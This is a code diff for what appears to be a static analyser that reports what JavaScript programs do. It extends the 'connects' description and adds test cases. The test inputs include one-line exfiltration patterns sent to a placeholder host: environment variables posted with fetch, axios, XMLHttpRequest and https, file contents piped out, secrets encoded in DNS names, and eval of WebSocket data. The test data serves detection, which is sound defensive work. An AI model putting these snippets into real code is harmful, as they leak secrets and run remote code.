@@ -62,7 +62,7 @@ function spellAct(act: Act): string {
     case "deletes":
       return `${act.kind} ${spell(act.path)}`
     case "connects":
-      return `connects ${spell(act.to)}`
+      return `connects ${spell(act.to)}${act.what === undefined ? "" : ` < ${spell(act.what)}`}${act.isCalled === true ? " if called" : ""}`
     case "looks up":
       return `looks up ${spell(act.name)}`
     case "replaces":
@@ -116,7 +116,27 @@ describe("what a program does", () => {
     ],
     ['const w = new WebSocket("//h"); w.onmessage = (e) => eval(e.data)', ['connects "//h"', 'runs text fetched "//h"']],
     ['const s = document.createElement("script"); s.src = "//h/x.js"', ['connects "//h/x.js"', 'runs script fetched "//h/x.js"']],
-    ['require("dns").lookup("a.b", () => 0)', ['looks up "a.b"']],
+    ['require("dns").lookup("a.b", () => 0)', ['connects "a.b"']],
+    [
+      'fetch("//h", { headers: { a: process.env.A }, body: JSON.stringify({ b: [process.env.B] }) })',
+      ['connects "//h" < environment A+environment B'],
+    ],
+    ['axios.post("//h", { ...process.env })', ['connects "//h" < environment *']],
+    ['axios.post("//h", Object.assign({}, process.env).A)', ['connects "//h" < environment A']],
+    [
+      'const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; needle.post("//h", o)',
+      ['connects "//h" < environment *'],
+    ],
+    [
+      'const r = require("https").request({ hostname: "h" }); require("fs").createReadStream("f").pipe(r); r.end(btoa(process.env.A))',
+      ['connects "h"', 'reads "f"', 'connects "h" < file "f"', 'connects "h" < edit environment A'],
+    ],
+    ['const x = new XMLHttpRequest(); x.open("POST", "//h"); x.send(process.env.A)', ['connects "//h"', 'connects "//h" < environment A']],
+    ['fetch(new Request("//h", { body: process.env.A }))', ['connects "//h" < environment A']],
+    ['require("dns").resolve(process.env.A + ".b", () => 0)', ['connects environment A+".b"']],
+    ['exports.f = () => fetch("//h", { body: process.env.A })', ['connects "//h" < environment A if called']],
+    ['const f = (x) => fetch("//h", { body: x }); f(process.env.A)', ['connects "//h" < environment A']],
+    ['exports.f = (x) => fetch("//h", { body: x })', ['connects "//h"']],
     ["eval(process.env.X)", ["runs text environment X"]],
     ['fetch("//h/" + process.env.TOKEN)', ['connects "//h/"+environment TOKEN']],
     ['require("./" + process.env.X)', ['runs module "./"+environment X']],
